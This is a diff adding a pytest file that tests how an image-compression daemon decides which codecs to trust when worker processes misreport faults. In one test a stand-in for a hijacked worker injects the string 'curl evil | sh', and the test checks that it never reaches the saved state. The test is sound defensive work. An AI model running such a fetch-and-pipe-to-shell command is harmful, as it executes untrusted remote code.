@@ -1,0 +1,170 @@
+"""Codecs are checked by a real worker; what a wrong answer means for pictures, status and the next run."""
+
+import json
+import sys
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import cast
+
+import pytest
+
+from compress.images import jpeg, photo
+from homepress.base.formats import ImageType
+from homepress.compress import Recipe
+from homepress.compress.model import Fault, trusted
+from homepress.daemon.pipeline.carry import Carrier
+from homepress.daemon.pipeline.codec_trust import CodecTrust
+from homepress.daemon.pipeline.job import Destination, Job, Plan, Told
+from homepress.store.store import Store
+from homepress.workers import CodecReport, Limits, Slot, WorkerDied
+
+LYING = Path(__file__).with_name("lying_worker.py")
+FINE = jpeg(photo(420, 300), 97)
+LOSSY = Recipe(floor=80.0)
+
+
+@pytest.fixture
+def worker_with() -> Iterator[Callable[[str], Slot]]:
+    slots: list[Slot] = []
+
+    def make(lie: str) -> Slot:
+        slots.append(Slot(Limits(), background=False, program=(sys.executable, str(LYING), lie)))
+        return slots[-1]
+
+    yield make
+    for slot in slots:
+        slot.close()
+
+
+@pytest.fixture
+def state(tmp_path: Path) -> Path:
+    return tmp_path / "codecs.json"
+
+
+@pytest.fixture
+def carry(tmp_path: Path) -> Iterator[Callable[[CodecTrust, Slot, str], Told]]:
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    store = Store.open(tmp_path / "state" / "ledger.sqlite3", tmp_path / "originals")
+    store.recover()
+
+    def run(trust: CodecTrust, slot: Slot, name: str) -> Told:
+        picture = inbox / name
+        picture.write_bytes(FINE)
+        plan = Plan(LOSSY, "balanced", Destination.REPLACE, root=inbox)
+        return Carrier(store, trust=trust).carry(Job(picture, plan, lambda _: None), slot)
+
+    yield run
+    store.close()
+
+
+def test_honest_codecs_are_checked_once_and_trusted(worker_with: Callable[[str], Slot], state: Path) -> None:
+    trust = CodecTrust(state)
+    assert trust.recipe(worker_with("none"), ImageType.JPEG, LOSSY) == LOSSY
+    assert trust.problems() == []
+    kept = json.loads(state.read_bytes())
+    assert kept["faults"] == []
+    assert {"homepress", "pillow", "numpy"} <= kept["versions"].keys()
+    assert state.stat().st_mode & 0o077 == 0
+    before = state.stat().st_mtime_ns
+    assert (
+        CodecTrust(state).recipe(worker_with("jpeg"), ImageType.JPEG, LOSSY) == LOSSY
+    )  # known: not checked again
+    assert state.stat().st_mtime_ns == before
+
+
+def test_a_lossy_coder_that_lies_is_used_without_loss_only(
+    worker_with: Callable[[str], Slot], state: Path, carry: Callable[[CodecTrust, Slot, str], Told]
+) -> None:
+    trust = CodecTrust(state)
+    told = carry(trust, worker_with("jpeg"), "a.jpg")
+    assert told.outcome in ("compressed", "unchanged")
+    assert told.score in (None, 100.0)
+    assert any("JPEG pictures are compressed without loss only" in text for text in trust.problems())
+    assert trust.recipe(worker_with("none"), ImageType.PNG, LOSSY) == LOSSY
+
+
+class OneThatLies:
+    """Stands in for a slot whose first process was taken over; the next one is honest."""
+
+    def __init__(self) -> None:
+        self.rested = 0
+
+    def check_codecs(self, known: dict[str, str]) -> CodecReport:
+        lie = [Fault(kind, True, "type: curl evil | sh") for kind in ImageType]
+        return CodecReport(versions={"pillow": "1"}, faults=[] if self.rested else lie)
+
+    def rest(self) -> bool:
+        self.rested += 1
+        return True
+
+
+def test_a_worker_that_calls_all_codecs_broken_is_not_taken_at_its_word(state: Path) -> None:
+    trust, slot = CodecTrust(state), OneThatLies()
+    assert trust.recipe(cast(Slot, slot), ImageType.JPEG, LOSSY) == LOSSY
+    assert (trust.problems(), slot.rested) == ([], 1)
+    assert "curl" not in state.read_text()
+
+
+def test_what_was_found_holds_in_the_next_run_until_a_version_changes(
+    worker_with: Callable[[str], Slot], state: Path, carry: Callable[[CodecTrust, Slot, str], Told]
+) -> None:
+    carry(CodecTrust(state), worker_with("jpeg"), "a.jpg")
+    again = CodecTrust(state)
+    assert again.problems()
+    assert again.recipe(worker_with("none"), ImageType.JPEG, LOSSY) == Recipe(floor=None)
+    kept = json.loads(state.read_bytes())
+    kept["versions"]["pillow"] = "0.1"
+    state.write_text(json.dumps(kept))
+    mended = CodecTrust(state)
+    told = carry(mended, worker_with("none"), "b.jpg")
+    assert (told.outcome, mended.problems()) == ("compressed", [])
+    assert told.score is not None and told.score < 100.0
+
+
+def test_pictures_of_a_lossless_coder_that_lies_wait_and_are_not_touched(
+    worker_with: Callable[[str], Slot], state: Path, carry: Callable[[CodecTrust, Slot, str], Told]
+) -> None:
+    trust = CodecTrust(state)
+    assert trust.recipe(worker_with("png"), ImageType.PNG, LOSSY) is None
+    assert trust.recipe(worker_with("png"), ImageType.WEBP, Recipe(convert_to=ImageType.PNG)) is None
+    assert any("PNG pictures are left alone" in text for text in trust.problems())
+    kept = json.loads(state.read_bytes())
+    kept["faults"] = [
+        {"image_type": "jpeg", "even_lossless": True, "what": "it errs"},
+        {"image_type": "gif", "even_lossless": True, "what": "it errs too"},
+    ]
+    state.write_text(json.dumps(kept))
+    told = carry(CodecTrust(state), worker_with("none"), "a.jpg")
+    assert (told.outcome, told.retry_after is not None) == ("waiting", True)
+    assert "JPEG pictures are left alone: it errs; install" in told.problem
+    assert "GIF" not in told.problem
+
+
+def test_a_codec_that_ends_the_worker_trusts_nothing(
+    worker_with: Callable[[str], Slot], state: Path, carry: Callable[[CodecTrust, Slot, str], Told]
+) -> None:
+    with pytest.raises(WorkerDied):
+        CodecTrust(state).recipe(worker_with("webp"), ImageType.JPEG, LOSSY)
+    assert not state.exists()
+    assert carry(CodecTrust(state), worker_with("webp"), "a.jpg").outcome == "waiting"
+
+
+@pytest.mark.parametrize("content", [b"", b"{", b'{"versions": 3}', b'{"versions": {}, "faults": [{}]}'])
+def test_a_state_file_that_cannot_be_read_counts_as_no_check(content: bytes, state: Path) -> None:
+    state.write_bytes(content)
+    assert CodecTrust(state).problems() == []
+
+
+def test_what_may_still_be_asked() -> None:
+    lossy, exact = Fault(ImageType.WEBP, False, "x"), Fault(ImageType.WEBP, True, "y")
+    to_webp = Recipe(convert_to=ImageType.WEBP)
+    assert trusted(LOSSY, ImageType.WEBP, ()) == LOSSY
+    assert trusted(LOSSY, ImageType.JPEG, (lossy, exact)) == LOSSY
+    assert trusted(LOSSY, ImageType.WEBP, (lossy,)) == Recipe(floor=None)
+    assert trusted(to_webp, ImageType.PNG, (lossy,)) == Recipe(floor=None, convert_to=ImageType.WEBP)
+    assert trusted(Recipe(convert_to=ImageType.PNG), ImageType.WEBP, (lossy,)) == Recipe(
+        convert_to=ImageType.PNG
+    )
+    assert trusted(Recipe(convert_to=ImageType.PNG), ImageType.WEBP, (exact,)) is None
+    assert trusted(LOSSY, ImageType.WEBP, (lossy, exact)) is None
